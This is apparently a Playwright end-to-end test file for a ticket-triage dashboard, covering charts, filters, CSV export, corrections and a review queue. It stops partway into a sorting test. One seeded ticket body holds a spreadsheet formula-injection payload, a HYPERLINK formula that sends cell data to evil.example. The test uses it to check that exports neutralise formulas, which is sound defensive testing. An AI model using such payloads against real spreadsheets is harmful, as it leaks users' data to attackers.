// dashboard.test.mjs - the dashboard in headless Chromium (Debian's chromium
// driven by playwright-core), served by the real triage-api over the real
// stack: triage-ingest behind the upload, triage-classifier (built-in model)
// behind processing, the real Kafka broker and the MongoDB-protocol server.
// Everything is this run's own: a database and three topics with unique
// names (dropped and deleted after), a unique consumer group, free ports.
//
// Run by ctest (tests/browser/CMakeLists.txt) as `node --test`, with
// TRIAGE_BIN_DIR (the built binaries), TRIAGE_WEB_ROOT (the built page) and
// TRIAGE_SCREENSHOTS (where the 1280x800 screenshots go).
//
// The tests run in file order and build on each other: the seeded tickets
// first (stats, filters, export, detail, roles, fetch), then an upload adds
// tickets, live refresh and processing classify them, and the screenshots
// show the result.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { randomBytes } from 'node:crypto';
import { chromium } from 'playwright-core';
import { MongoClient } from 'mongodb';
import kafkajs from 'kafkajs';

const { Kafka, logLevel } = kafkajs;
const BIN = process.env.TRIAGE_BIN_DIR;
const WEB = process.env.TRIAGE_WEB_ROOT;
const SHOTS = process.env.TRIAGE_SCREENSHOTS;
const MONGO = process.env.TRIAGE_TEST_MONGO_URI || 'mongodb://127.0.0.1:27017';
const BROKERS = process.env.TRIAGE_TEST_KAFKA_BROKERS || '127.0.0.1:9092';
// Random per run: the services refuse a weak or documented admin key.
const ADMIN = randomBytes(32).toString('base64url');
const RUN = `${process.pid}_${Date.now().toString(36)}`;
const DB = `browser_${RUN}`;
const TOPICS = {
  classify: `test.browser.classify.${RUN}`,
  classified: `test.browser.classified.${RUN}`,
  dlq: `test.browser.dlq.${RUN}`,
};
const GROUP = `test-browser-${RUN}`;

const services = {}; // name -> { proc, base, exit: Promise<code> }
let topicEnv; // the run's topics, for every service
const classifierEnv = () => ({ ...topicEnv, TRIAGE_KAFKA_GROUP: `${GROUP}-classifier`, TRIAGE_LLM_PROVIDER: 'local' });
let base, mongo, browser, kafkaAdmin;
let viewerKey, operatorKey;
const consoleErrors = [];

// A port below the kernel's ephemeral range (32768+): one that listen(0)
// handed out could be taken by an outgoing client socket before the service
// binds it.
let nextPort = 20000 + Math.floor(Math.random() * 10000);
function tryPort(p) {
  return new Promise((resolve) => {
    const s = createServer();
    s.once('error', () => resolve(false));
    s.listen(p, '127.0.0.1', () => s.close(() => resolve(true)));
  });
}
async function freePort() {
  for (;;) {
    const p = nextPort++;
    if (await tryPort(p)) return p;
  }
}

async function waitReady(url, ms) {
  const end = Date.now() + ms;
  for (;;) {
    try { if ((await fetch(url)).ok) return; } catch (_) { /* not up yet */ }
    if (Date.now() > end) throw new Error(`${url} not ready after ${ms} ms`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Starts build/bin/triage-<name> on a free port with env; resolves once ready. */
async function startService(name, env) {
  const port = await freePort();
  const proc = spawn(join(BIN, `triage-${name}`), [], {
    env: {
      ...process.env, TRIAGE_HTTP_PORT: String(port), TRIAGE_MONGO_URI: MONGO, TRIAGE_MONGO_DB: DB,
      TRIAGE_KAFKA_BROKERS: BROKERS, TRIAGE_ADMIN_KEY: ADMIN, TRIAGE_LOG_LEVEL: 'warn', ...env,
    },
    stdio: ['ignore', 'inherit', 'inherit'],
  });
  const exit = new Promise((r) => proc.once('exit', (code, sig) => r(code ?? sig)));
  const svc = { proc, base: `http://127.0.0.1:${port}`, exit };
  services[name] = svc;
  await waitReady(`${svc.base}/readyz`, 30000);
  return svc;
}

async function call(method, path, body, key = ADMIN) {
  const res = await fetch(base + path, {
    method,
    headers: { Authorization: `Bearer ${key}`, ...(body ? { 'Content-Type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await res.text();
  return { status: res.status, json: text && res.headers.get('content-type')?.includes('json') ? JSON.parse(text) : text };
}

/** Polls fn until it returns a truthy value (or throws after ms). */
async function eventually(fn, ms, what) {
  const end = Date.now() + ms;
  let last;
  for (;;) {
    try { last = await fn(); if (last) return last; } catch (e) { last = e; }
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}: ${last instanceof Error ? last.message : JSON.stringify(last)}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

const day = 86400000;
const now = Date.now();
// How far into today (UTC) the run is, in days: the seed's newest ticket is
// placed inside today even when the suite runs just after midnight, so the
// "since yesterday" trend has something to count at any hour.
const todaySoFar = (now - Date.parse(new Date(now).toISOString().slice(0, 10))) / day;
function ticket(id, subject, body, createdAgoDays, cls) {
  const t = { id, subject, body, processed: false, created_at: new Date(now - createdAgoDays * day), updated_at: new Date(now - createdAgoDays * day), source: 'test' };
  if (cls === 'failed') return { ...t, processing_attempts: 3, last_error: 'LLM timed out' };
  if (cls) {
    t.processed = true;
    t.classification = { topic_tags: cls.topics, sentiment: cls.sentiment, priority: cls.priority };
    t.confidence_scores = { topic: cls.conf, sentiment: cls.conf, priority: cls.conf };
    t.processing_metadata = { processed_at: new Date(now - (createdAgoDays - 0.2) * day), model_version: 'test-model-1', processing_time_ms: cls.ms, agent_version: '1.0' };
    // Flagged for review as the classifier flags (TRIAGE_REVIEW_BELOW):
    // T-102, T-103 and T-105.
    t.needs_review = cls.conf < 0.75;
  }
  return t;
}

const SEED = [
  ticket('T-100', 'SSO login fails with Okta', 'Invalid SAML assertion since this morning', 1, { topics: ['SSO'], sentiment: 'Frustrated', priority: 'P0 (High)', conf: 0.93, ms: 420 }),
  ticket('T-101', 'How do I connect Snowflake?', 'Need the connector steps, "soon"\nthanks, Ana', 2, { topics: ['Connector', 'How-to'], sentiment: 'Curious', priority: 'P2 (Low)', conf: 0.81, ms: 310 }),
  ticket('T-102', 'Lineage graph is empty', 'Upstream tables do not show', 3, { topics: ['Lineage'], sentiment: 'Neutral', priority: 'P1 (Medium)', conf: 0.64, ms: 880 }),
  ticket('T-103', 'API returns 429', 'Rate limited by the SDK', 3, { topics: ['API/SDK'], sentiment: 'Angry', priority: 'P0 (High)', conf: 0.72, ms: 1500 }),
  ticket('T-104', 'Glossary terms missing', '=HYPERLINK("http://evil.example/?"&A1,"Where do the terms live?")', 4, { topics: ['Glossary'], sentiment: 'Curious', priority: 'P2 (Low)', conf: 0.88, ms: 260 }),
  ticket('T-105', 'PII tagging of columns', 'Sensitive columns are not tagged', 5, { topics: ['Sensitive data'], sentiment: 'Neutral', priority: 'P1 (Medium)', conf: 0.55, ms: 640 }),
  ticket('T-200', 'Dark mode request', 'Would love a dark theme', Math.min(0.1, todaySoFar / 2), null),
  ticket('T-201', 'Export to CSV broken', 'The export button does nothing', 0.5, null),
  ticket('T-202', 'Best way to model domains?', 'Looking for best practices', 6, 'failed'),
];
const seedById = Object.fromEntries(SEED.map((t) => [t.id, t]));

// The upload: 40 new tickets (CSV), plus one already stored and two bad rows.
const UPLOAD_TEXTS = [
  ['Snowflake connector fails after password rotation', 'Our Snowflake crawler has failed every night since we rotated the service account password. Where do we update it?'],
  ['How to add a custom metadata field?', 'We want to track data owners per table. Is there a way to add a custom field to assets?'],
  ['URGENT: production lineage missing for dbt models', 'Since the upgrade none of our dbt models show lineage. Our auditors need this today!'],
  ['SAML SSO redirect loop', 'Users get stuck in a redirect loop when signing in through Azure AD. This blocks the whole team.'],
  ['Glossary import from CSV', 'Can we bulk import glossary terms and their definitions from a CSV file?'],
  ['API rate limits for bulk updates', 'What are the API limits when updating 50k assets through the Python SDK?'],
  ['Best practice for naming domains', 'We are rolling out data domains. Any recommendations on structure and naming?'],
  ['PII columns not detected automatically', 'Columns with emails and phone numbers were not tagged as PII after the scan.'],
  ['Looker dashboards not appearing', 'The Looker connector finished but no dashboards show up in search.'],
  ['Thank you for the quick fix!', 'The lineage issue from last week is resolved, thanks a lot to the team.'],
  ['Column-level lineage for BigQuery', 'Is column-level lineage supported for BigQuery views and scheduled queries?'],
  ['Search results are very slow', 'Searching for any table takes more than 20 seconds since yesterday. Very frustrating.'],
  ['Okta group sync not working', 'New members of our Okta groups do not get access in the catalog.'],
  ['How to certify an asset?', 'Where is the button to mark a table as certified?'],
  ['Databricks Unity Catalog support', 'Do you support Unity Catalog for the Databricks connector?'],
  ['SDK throws 401 with a valid token', 'The Java SDK returns 401 although the same token works with curl.'],
  ['Masking policy for sensitive columns', 'How do we apply a masking policy to columns tagged as confidential?'],
  ['Glossary term linked to wrong tables', 'Several glossary terms point at tables that were deleted months ago.'],
  ['Data quality alerts in Slack', 'Is it possible to send data quality alerts to a Slack channel?'],
  ['Everything is broken after the update', 'After this morning update nothing loads, our whole data team is blocked. Please help ASAP!'],
  ['Tableau connector timeout', 'The Tableau extraction times out after 30 minutes for our large site.'],
  ['Lineage for Airflow DAGs', 'How do we get lineage from Airflow DAGs into the catalog?'],
  ['Request: dark mode', 'It would be nice to have a dark theme for the UI.'],
  ['API pagination returns duplicates', 'Paging through the assets API returns the same asset twice across pages.'],
  ['How do I invite external users?', 'We want to give a contractor read-only access. What is the process?'],
  ['Redshift crawler permission error', 'The Redshift crawler fails with permission denied on information_schema.'],
  ['GDPR request: find all personal data', 'Legal asks for a list of every table holding personal data about customers.'],
  ['Best practices for ownership', 'How should we assign owners for thousands of tables without doing it by hand?'],
  ['SSO login works but roles are missing', 'After logging in via SSO all users are viewers even if they are admins in the IdP.'],
  ['Glossary approvals workflow', 'Can glossary changes require an approval before they are published?'],
  ['Connector to Postgres on a private network', 'Our Postgres database is only reachable in a VPC. How can the connector reach it?'],
  ['Lineage graph too cluttered', 'The lineage view of our core table shows hundreds of nodes. Can we filter it?'],
  ['Python SDK example for tagging', 'Do you have an example of adding tags to assets with the Python SDK?'],
  ['Audit log export', 'We need to export the audit log for our compliance review every month.'],
  ['Power BI workspace missing', 'One Power BI workspace is not crawled, the others are fine.'],
  ['Classification rules for credit card numbers', 'Can we write a custom rule to detect credit card numbers in column samples?'],
  ['Very disappointed with support response time', 'We opened a ticket a week ago and still have no answer. This is not acceptable.'],
  ['How to delete stale assets?', 'Tables dropped in the warehouse still show in the catalog. How do we clean them up?'],
  ['Webhook on schema change', 'Can the catalog call a webhook when a table schema changes?'],
  ['Great product, small question about exports', 'Loving the tool so far. Is there a way to export search results to Excel?'],
];
const UPLOAD_IDS = UPLOAD_TEXTS.map((_, i) => `U-${String(i + 1).padStart(3, '0')}`);

function csvField(s) {
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

function uploadCsv() {
  const lines = ['id,subject,body,created_at'];
  UPLOAD_TEXTS.forEach(([subject, body], i) => {
    const created = new Date(now - ((i * 7) % 10) * day - (i % 5) * 3600000).toISOString();
    lines.push([UPLOAD_IDS[i], subject, body, created].map(csvField).join(','));
  });
  lines.push(`T-100,SSO login fails again,Sent twice by mistake,${new Date(now).toISOString()}`); // line 42: already stored
  lines.push('U-BAD,,,');                                                  // line 43: no subject, no body
  lines.push('U-SHORT,only two fields');                                  // line 44: wrong column count
  return `${lines.join('\r\n')}\r\n`;
}

/** RFC 4180 CSV text -> array of rows (arrays of fields). */
function parseCsv(text) {
  const rows = [];
  let row = [], field = '', i = 0, quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c; i++; continue;
    }
    if (c === '"') { quoted = true; i++; continue; }
    if (c === ',') { row.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') i++;
    if (c === '\n' || c === '\r') { row.push(field); rows.push(row); row = []; field = ''; i++; continue; }
    field += c; i++;
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row); }
  return rows;
}

before(async () => {
  assert.ok(BIN && WEB && SHOTS, 'TRIAGE_BIN_DIR, TRIAGE_WEB_ROOT and TRIAGE_SCREENSHOTS must be set');
  mkdirSync(SHOTS, { recursive: true });
  mongo = new MongoClient(MONGO);
  await mongo.connect();
  // Stored as the services store them: the ticket id is also the _id
  // (docs/decisions/0005-ticket-id-is-the-primary-key.md).
  await mongo.db(DB).collection('tickets').insertMany(SEED.map((t) => ({ _id: t.id, ...t })));
  const kafka = new Kafka({ clientId: `browser-test-${RUN}`, brokers: BROKERS.split(','), logLevel: logLevel.NOTHING });
  kafkaAdmin = kafka.admin();
  await kafkaAdmin.connect();
  await kafkaAdmin.createTopics({
    waitForLeaders: true,
    topics: Object.values(TOPICS).map((topic) => ({ topic, numPartitions: 2, replicationFactor: 1 })),
  });
  topicEnv = { TRIAGE_TOPIC_CLASSIFY: TOPICS.classify, TRIAGE_TOPIC_CLASSIFIED: TOPICS.classified, TRIAGE_TOPIC_DLQ: TOPICS.dlq };
  const [ingest] = await Promise.all([
    // Uploads only: no inbound consumer, no automatic classification (the
    // processing tests ask for it through the page).
    startService('ingest', { ...topicEnv, TRIAGE_INGEST_CONSUME: 'false', TRIAGE_AUTO_CLASSIFY: 'false', TRIAGE_KAFKA_GROUP: `${GROUP}-ingest` }),
    startService('classifier', classifierEnv()),
  ]);
  const api = await startService('api', {
    ...topicEnv, TRIAGE_INGEST_URL: ingest.base, TRIAGE_API_CACHE_TTL: '0', TRIAGE_WEB_ROOT: WEB,
    // A job without progress for 3 s is stalled (the classifier-stopped test).
    TRIAGE_JOB_STALL_AFTER: '3s',
  });
  base = api.base;
  viewerKey = (await call('POST', '/api/keys', { name: 'viewer', role: 'viewer' })).json.key;
  operatorKey = (await call('POST', '/api/keys', { name: 'operator', role: 'operator' })).json.key;
  assert.ok(viewerKey && operatorKey);
  browser = await chromium.launch({
    executablePath: process.env.TRIAGE_CHROMIUM || '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    // Playwright gives every launch a fresh temporary --user-data-dir itself.
  });
});

after(async () => {
  if (browser) await browser.close();
  // Every service must stop cleanly on SIGTERM (under ASan: with no leak).
  const codes = {};
  for (const name of ['api', 'classifier', 'ingest']) {
    const s = services[name];
    if (!s) continue;
    s.proc.kill('SIGTERM');
    codes[name] = await s.exit;
  }
  if (kafkaAdmin) {
    await kafkaAdmin.deleteTopics({ topics: Object.values(TOPICS) }).catch(() => {});
    await kafkaAdmin.disconnect();
  }
  if (mongo) { await mongo.db(DB).dropDatabase(); await mongo.close(); }
  for (const [name, code] of Object.entries(codes)) assert.equal(code, 0, `triage-${name} exited with ${code}`);
});

/** A page logged in with key (null: no key sent). Collects console errors. */
async function openPage(key, path = '/', viewport = { width: 1280, height: 800 }) {
  const ctx = await browser.newContext({ viewport, acceptDownloads: true });
  const page = await ctx.newPage();
  page.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(`${m.text()} @ ${page.url()}`); });
  page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
  await page.goto(base + '/');
  if (key) {
    await page.waitForSelector('#key-dialog[open]');
    await page.fill('#key-input', key);
    await page.click('#key-dialog button[type=submit]');
  }
  if (path !== '/') await page.goto(base + path);
  if (path !== '/' && key) {
    // sessionStorage kept the key across the navigation: no prompt again.
    assert.equal(await page.locator('#key-dialog[open]').count(), 0);
  }
  await page.waitForFunction(() => window.__triage && window.__triage.ready);
  return { ctx, page };
}

/** Waits until the table shows exactly ids (in any order). */
async function waitRows(page, table, ids) {
  await page.waitForFunction(([t, want]) => {
    const got = [...document.querySelectorAll(`#${t}-table tbody tr[data-id]`)].map((r) => r.dataset.id).sort();
    return JSON.stringify(got) === JSON.stringify(want);
  }, [table, [...ids].sort()]);
}

async function rowIds(page, table) {
  return page.$$eval(`#${table}-table tbody tr[data-id]`, (trs) => trs.map((t) => t.dataset.id));
}

const nonZero = (o) => Object.fromEntries(Object.entries(o || {}).filter(([, n]) => n > 0));

/** What the charts and cards must show for an /api/analytics answer. */
function expectedView(a) {
  const daily = {};
  for (const [key, k] of [['created_per_day', 0], ['processed_per_day', 1]]) {
    for (const r of a[key]) {
      if (!r.count) continue;
      daily[r.date] = daily[r.date] || [0, 0];
      daily[r.date][k] += r.count;
    }
  }
  return {
    priority: nonZero(a.priority_distribution),
    sentiment: nonZero(a.sentiment_distribution),
    topic: nonZero(a.topic_distribution),
    daily,
    time: a.processing_time_ms.buckets.map((b) => b.count),
    confidence: ['topic', 'sentiment', 'priority'].map((f) => a.confidence[f].buckets.map((b) => b.count)),
    cards: [a.total, a.processed, a.unprocessed].map(String),
  };
}

/** What the page's charts and cards show now. */
async function shownView(page) {
  const { charts, cards } = await page.evaluate(() => ({
    charts: window.__triage.chartData(),
    cards: ['#stat-total', '#stat-processed', '#stat-unprocessed'].map((s) => document.querySelector(s).textContent.replace(/,/g, '')),
  }));
  const dict = (id) => nonZero(Object.fromEntries(charts[id].labels.map((l, i) => [l, charts[id].data[0][i]])));
  const daily = {};
  charts['ch-daily'].labels.forEach((d, i) => {
    const c = charts['ch-daily'].data[0][i], p = charts['ch-daily'].data[1][i];
    if (c || p) daily[d] = [c, p];
  });
  return {
    priority: dict('ch-priority'),
    sentiment: dict('ch-sentiment'),
    topic: dict('ch-topic'),
    daily,
    time: charts['ch-time'].data[0],
    confidence: charts['ch-confidence'].data,
    cards,
  };
}

/** Asserts that the page's charts and stat cards show GET /api/analytics?query. */
async function assertChartsFollow(page, query) {
  // The page counts days in its own zone (tz): so does the reference.
  const tz = await page.evaluate(() => Intl.DateTimeFormat().resolvedOptions().timeZone);
  const a = (await call('GET', `/api/analytics?${new URLSearchParams({ ...query, tz })}`)).json;
  const want = expectedView(a);
  let got;
  try {
    await eventually(async () => { got = await shownView(page); return isDeepStrictEqual(got, want); }, 5000, 'charts');
  } catch (_) { /* the assertion below says what differs */ }
  assert.deepEqual(got, want, `charts for ${JSON.stringify(query)}`);
  return a;
}

test('stats cards and every chart show the stored tickets', async () => {
  const { ctx, page } = await openPage(ADMIN);
  await page.waitForFunction(() => document.querySelector('#stat-total').textContent === '9');
  assert.equal(await page.textContent('#stat-processed'), '6');
  assert.equal(await page.textContent('#stat-unprocessed'), '3');
  assert.match(await page.textContent('#stat-pct'), /66\.7%/);
  assert.match(await page.textContent('#stat-foot'), /1 failed/);
  assert.equal(await page.textContent('#role-badge'), 'admin');
  // T-200 was created today (UTC) and T-201 half a day ago, today or
  // yesterday by the hour: the trend under "total" counts today's.
  const createdToday = SEED.filter((t) => t.created_at.toISOString().slice(0, 10) === new Date().toISOString().slice(0, 10)).length;
  assert.ok(createdToday >= 1);
  assert.match(await page.textContent('#trend-total'), new RegExp(`\\+${createdToday} since yesterday`));
  const a = await assertChartsFollow(page, {});
  // And the analytics themselves are the seed's.
  assert.deepEqual(nonZero(a.priority_distribution), { 'P0 (High)': 2, 'P1 (Medium)': 2, 'P2 (Low)': 2 });
  const charts = await page.evaluate(() => window.__triage.chartData());
  // Priority bars in the taxonomy's order.
  assert.deepEqual(charts['ch-priority'].labels.slice(0, 3), ['P0 (High)', 'P1 (Medium)', 'P2 (Low)']);
  // Processing times 260, 310, 420 / 640, 880 / 1500 ms.
  assert.deepEqual(charts['ch-time'].data[0].slice(0, 6), [0, 0, 3, 2, 1, 0]);
  await ctx.close();
});

test('every filter and the search change the table and the charts, and the URL keeps them', async () => {
  const { ctx, page } = await openPage(ADMIN, '/?tab=tickets');
  await page.waitForSelector('#tickets-table tbody tr[data-id]');
  assert.equal((await rowIds(page, 'tickets')).length, 9);

  // Status multi-select.
  await page.click('#f-status summary');
  await page.check('#f-status input[value=failed]');
  await waitRows(page, 'tickets', ['T-202']);
  assert.match(page.url(), /status=failed/);
  await assertChartsFollow(page, { status: 'failed' });
  await page.click('#f-clear');

  // Priority: two values OR-ed.
  await page.click('#f-priority summary');
  await page.check('#f-priority input[value="P0 (High)"]');
  await waitRows(page, 'tickets', ['T-100', 'T-103']);
  await assertChartsFollow(page, { priority: 'P0 (High)' });
  await page.check('#f-priority input[value="P2 (Low)"]');
  await waitRows(page, 'tickets', ['T-100', 'T-101', 'T-103', 'T-104']);
  const a = await assertChartsFollow(page, { priority: 'P0 (High),P2 (Low)' });
  assert.equal(a.total, 4);
  await page.click('#f-clear');

  // Sentiment and topic together.
  await page.click('#f-sentiment summary');
  await page.check('#f-sentiment input[value=Curious]');
  await waitRows(page, 'tickets', ['T-101', 'T-104']);
  await assertChartsFollow(page, { sentiment: 'Curious' });
  await page.click('#f-topic summary');
  await page.check('#f-topic input[value=Glossary]');
  await waitRows(page, 'tickets', ['T-104']);
  await assertChartsFollow(page, { sentiment: 'Curious', topic: 'Glossary' });
  assert.match(await page.textContent('#stats-scope'), /matching the filters/);
  await page.click('#f-clear');

  // Search (literal text, case-insensitive).
  await waitRows(page, 'tickets', SEED.map((t) => t.id));
  await assertChartsFollow(page, {});
  await page.fill('#f-q', 'snowflake');
  await waitRows(page, 'tickets', ['T-101']);
  assert.match(page.url(), /q=snowflake/);
  await assertChartsFollow(page, { q: 'snowflake' });

  // A bookmarked filtered view opens filtered.
  const url = page.url();
  const other = await ctx.newPage();
  other.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); });
  await other.goto(url);
  // A new tab has no key yet (sessionStorage is per tab): it asks, then shows the view.
  await other.waitForSelector('#key-dialog[open]');
  await other.fill('#key-input', ADMIN);
  await other.click('#key-dialog button[type=submit]');
  await other.waitForFunction(() => window.__triage && window.__triage.ready);
  await waitRows(other, 'tickets', ['T-101']);
  assert.equal(await other.inputValue('#f-q'), 'snowflake');
  await assertChartsFollow(other, { q: 'snowflake' });

  // Date range: created since a day and a half ago; then up to four days ago.
  await page.click('#f-clear');
  const from = new Date(now - 1.5 * day).toISOString().slice(0, 10);
  await page.fill('#f-from', from);
  await page.dispatchEvent('#f-from', 'change');
  await page.waitForFunction((f) => new URLSearchParams(location.search).get('from') === f, from);
  const fromIds = SEED.filter((t) => t.created_at.getTime() >= Date.parse(`${from}T00:00:00Z`)).map((t) => t.id);
  assert.ok(fromIds.includes('T-200') && !fromIds.includes('T-105'));
  await waitRows(page, 'tickets', fromIds);
  await assertChartsFollow(page, { created_from: `${from}T00:00:00Z` });
  await page.fill('#f-from', '');
  await page.dispatchEvent('#f-from', 'change');
  const to = new Date(now - 4 * day).toISOString().slice(0, 10);
  await page.fill('#f-to', to);
  await page.dispatchEvent('#f-to', 'change');
  const toEnd = Date.parse(`${to}T00:00:00Z`) + day;
  const toIds = SEED.filter((t) => t.created_at.getTime() < toEnd).map((t) => t.id);
  assert.ok(toIds.includes('T-202') && !toIds.includes('T-100'));
  await waitRows(page, 'tickets', toIds);
  await assertChartsFollow(page, { created_to: new Date(toEnd).toISOString().replace('.000', '') });

  await page.click('#f-clear');
  await waitRows(page, 'tickets', SEED.map((t) => t.id));
  await ctx.close();
});

test('CSV export of the current filter holds exactly the matching tickets', async () => {
  const { ctx, page } = await openPage(operatorKey, '/?tab=history&sentiment=Curious');
  await waitRows(page, 'history', ['T-101', 'T-104']);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  const rows = parseCsv(readFileSync(await download.path(), 'utf8'));
  const [head, ...body] = rows;
  assert.deepEqual(head, ['id', 'subject', 'body', 'source', 'processed', 'created_at', 'updated_at', 'topic_tags', 'sentiment', 'priority',
    'confidence_topic', 'confidence_sentiment', 'confidence_priority', 'processed_at', 'model_version', 'processing_time_ms', 'agent_version',
    'processing_attempts', 'last_error', 'corrected_at', 'needs_review']);
  assert.deepEqual(body.map((r) => r[0]).sort(), ['T-101', 'T-104']);
  for (const r of body) {
    const rec = Object.fromEntries(head.map((h, i) => [h, r[i]]));
    const t = seedById[rec.id];
    assert.equal(rec.subject, t.subject);
    // T-101's has a comma, quotes and a newline; T-104's is a formula, which
    // a spreadsheet must show as text: it comes with a leading quote mark.
    assert.equal(rec.body, rec.id === 'T-104' ? `'${t.body}` : t.body);
    assert.equal(rec.source, t.source);
    assert.equal(rec.processed, 'true');
    assert.equal(Date.parse(rec.created_at), t.created_at.getTime());
    assert.deepEqual(rec.topic_tags.split(';'), t.classification.topic_tags);
    assert.equal(rec.sentiment, t.classification.sentiment);
    assert.equal(rec.priority, t.classification.priority);
    assert.equal(Number(rec.confidence_topic), t.confidence_scores.topic);
    assert.equal(Number(rec.processing_time_ms), t.processing_metadata.processing_time_ms);
    assert.equal(rec.model_version, 'test-model-1');
    assert.equal(Date.parse(rec.processed_at), t.processing_metadata.processed_at.getTime());
  }

  // The All tickets tab (no filter) exports every ticket, processed or not.
  await page.goto(`${base}/?tab=tickets`);
  await page.waitForFunction(() => window.__triage && window.__triage.ready);
  await waitRows(page, 'tickets', SEED.map((t) => t.id));
  const [d2] = await Promise.all([page.waitForEvent('download'), page.click('#export-tickets')]);
  const all = parseCsv(readFileSync(await d2.path(), 'utf8')).slice(1).map((r) => Object.fromEntries(head.map((h, i) => [h, r[i]])));
  assert.deepEqual(all.map((r) => r.id).sort(), SEED.map((t) => t.id).sort());
  for (const rec of all) {
    const t = seedById[rec.id];
    assert.equal(rec.subject, t.subject);
    assert.equal(rec.processed, String(t.processed));
    assert.equal(rec.priority, t.processed ? t.classification.priority : '');
    assert.equal(rec.last_error, t.last_error || '');
    assert.equal(rec.corrected_at, '');
  }
  await ctx.close();
});

test('ticket detail, and an admin correction is stored as a manual one', async () => {
  const { ctx, page } = await openPage(ADMIN, '/?tab=tickets&q=T-102');
  await waitRows(page, 'tickets', ['T-102']);
  await page.click('#tickets-table tbody tr[data-id="T-102"] td.subject');
  await page.waitForSelector('#detail[open] #correct-form');
  const text = await page.textContent('#detail-body');
  assert.match(text, /Lineage graph is empty/);
  assert.match(text, /Upstream tables do not show/);
  assert.match(text, /test-model-1/);
  assert.match(text, /880 ms/);
  assert.match(text, /64%/);
  await page.selectOption('#correct-form select[name=priority]', 'P0 (High)');
  await page.check('#correct-form input[value="Best practices"]');
  await page.fill('#correct-form input[name=note]', 'escalated by the lead');
  await page.click('#correct-form button[type=submit]');
  await page.waitForFunction(() => /Saved/.test(document.querySelector('#correct-state')?.textContent || ''));
  const doc = await mongo.db(DB).collection('tickets').findOne({ _id: 'T-102' });
  assert.equal(doc.classification.priority, 'P0 (High)');
  assert.deepEqual(doc.classification.topic_tags.sort(), ['Best practices', 'Lineage']);
  assert.ok(doc.processing_metadata.corrected_by, 'the correction records who made it');
  // The reopened detail shows the correction, and the table row the new label.
  await page.waitForFunction(() => /Corrected/.test(document.querySelector('#detail-body').textContent));
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => /P0/.test(document.querySelector('#tickets-table tbody tr[data-id="T-102"]')?.textContent || ''));
  // The export says when it was corrected.
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#export-tickets')]);
  const [h, ...rows] = parseCsv(readFileSync(await dl.path(), 'utf8'));
  const row = Object.fromEntries(h.map((k, i) => [k, rows.find((r) => r[0] === 'T-102')[i]]));
  assert.equal(Date.parse(row.corrected_at), doc.processing_metadata.corrected_at.getTime());
  await ctx.close();
});

test('processed history lists the processing metadata', async () => {
  const { ctx, page } = await openPage(ADMIN, '/?tab=history');
  await page.waitForFunction(() => document.querySelectorAll('#history-table tbody tr[data-id]').length === 6);
  const row = await page.textContent('#history-table tbody tr[data-id="T-103"]');
  assert.match(row, /test-model-1/);
  assert.match(row, /1,500 ms/);
  assert.match(row, /72%/);
  assert.match(await page.textContent('#history-table tbody tr[data-id="T-102"]'), /corrected/);
  await ctx.close();
});

test('the review queue lists the flagged tickets; next, and "labels are right" take them out', async () => {
  // T-102, T-103 and T-105 were flagged; T-102 was corrected by the detail
  // test above, which took it out of the queue.
  const { ctx, page } = await openPage(ADMIN, '/?tab=review');
  await waitRows(page, 'review', ['T-103', 'T-105']);
  assert.deepEqual(await rowIds(page, 'review'), ['T-103', 'T-105']); // newest first
  assert.match(await page.textContent('#review-table tbody tr[data-id="T-105"]'), /55%/);
  // The ticket view steps through the queue.
  await page.click('#review-table tbody tr[data-id="T-103"] td.subject');
  await page.waitForFunction(() => /API returns 429/.test(document.querySelector('#detail-title')?.textContent || ''));
  assert.equal(await page.isDisabled('#detail-prev'), true);
  await page.click('#detail-next');
  await page.waitForFunction(() => /PII tagging/.test(document.querySelector('#detail-title')?.textContent || ''));
  assert.match(await page.textContent('[data-testid=needs-review]'), /Waiting for review/);
  await page.click('[data-testid=confirm-labels]');
  await waitRows(page, 'review', ['T-103']);
  const doc = await mongo.db(DB).collection('tickets').findOne({ _id: 'T-105' });
  assert.equal(doc.needs_review, false);
  assert.equal(doc.classification.priority, 'P1 (Medium)'); // kept as the model had it
  assert.ok(doc.processing_metadata.corrected_at);
  // A corrected ticket shows the person's labels as such: who, the note, no
  // model confidence, and the labels before.
  await page.keyboard.press('Escape');
  await page.click('#tab-tickets');
  await page.waitForSelector('#tickets-table tbody tr[data-id="T-102"]');
  await page.click('#tickets-table tbody tr[data-id="T-102"] td.subject');
  await page.waitForSelector('#detail[open] [data-testid=human-label]');
  const human = await page.textContent('[data-testid=human-label]');
  assert.match(human, /Set by a person: the administrator key/);
  assert.match(human, /escalated by the lead/);
  assert.doesNotMatch(await page.textContent('#detail-body .kv'), /%/);
  await page.click('[data-testid=earlier-labels] summary');
  assert.match(await page.textContent('[data-testid=earlier-labels]'), /before: P1 \(Medium\) · Neutral · Lineage/);
  await page.keyboard.press('Escape');
  // The queue by a confidence the user picks: any score under 90%.
  await page.click('#tab-review');
  await page.selectOption('#review-rule', '0.9');
  await waitRows(page, 'review', ['T-101', 'T-103', 'T-104']);
  assert.match(page.url(), /review=0\.9/);
  await page.waitForTimeout(200);
  await page.screenshot({ path: join(SHOTS, 'review.png') });
  await ctx.close();
});

test('sortable columns: priority, then the other way; history by a confidence', async () => {
  const { ctx, page } = await openPage(ADMIN, '/?tab=tickets');
